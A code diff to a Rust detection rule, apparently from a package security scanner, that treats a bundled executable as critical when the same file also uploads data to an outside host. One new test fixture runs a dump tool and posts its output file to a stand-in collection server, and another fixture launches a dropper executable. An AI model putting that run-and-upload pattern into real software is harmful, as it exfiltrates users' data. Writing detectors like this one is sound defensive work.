@@ -30,7 +30,9 @@ declare_rule! {
     /// ## What it does
     /// Finds native executables (Windows PE, ELF, Mach-O, by content) shipped
     /// in the package and started by its code or scripts. Critical when that
-    /// happens at install; high at run time.
+    /// happens at install, or when the file that starts it also sends data to
+    /// an outside server (a bundled dump tool whose output is uploaded); high
+    /// otherwise.
     ///
     /// ## Why is this bad?
     /// A binary cannot be reviewed or diffed like source, and a package that
@@ -104,12 +106,33 @@ impl Rule for BundledExecutable {
                 if !named || !seen.insert((name.clone(), at.install_time)) {
                     continue;
                 }
-                let severity = if at.install_time {
+                // The same file then sends something to an outside server:
+                // a bundled tool whose results leave the machine.
+                let uploads = ctx.facts.network.iter().find(|n| {
+                    n.api.is_some()
+                        && n.at.location.path == at.location.path
+                        && n.host.as_deref().is_some_and(|h| !ctx.is_vendor_host(h))
+                        && !n.host_kind.is_some_and(|k| {
+                            matches!(
+                                k,
+                                palisade_diagnostics::HostKind::Loopback
+                                    | palisade_diagnostics::HostKind::PrivateIp
+                            )
+                        })
+                });
+                let severity = if at.install_time || uploads.is_some() {
                     Severity::Critical
                 } else {
                     Severity::High
                 };
-                let when = if at.install_time { " at install" } else { "" };
+                let when = match (at.install_time, uploads) {
+                    (true, _) => " at install".to_owned(),
+                    (false, Some(n)) => format!(
+                        " and sends data to `{}`",
+                        n.host.as_deref().unwrap_or_default()
+                    ),
+                    (false, None) => String::new(),
+                };
                 out.push(
                     ctx.at(
                         Finding::new(
@@ -144,6 +167,11 @@ mod tests {
                 ),
                 ("app.js", "require('child_process').exec('dropper.exe');"),
                 ("dropper.exe", PE),
+            ]),
+            Case::Files(&[
+                ("package.json", r#"{"name":"a"}"#),
+                ("index.js", "const cp = require('child_process');\ncp.exec('.\\\\dump.exe /shtml out.html', () => {\n  require('axios').post('http://collect.invalid:1337/p', require('fs').readFileSync('out.html', 'utf8'));\n});"),
+                ("dump.exe", PE),
             ])],
             &[
                 Case::Files(&[
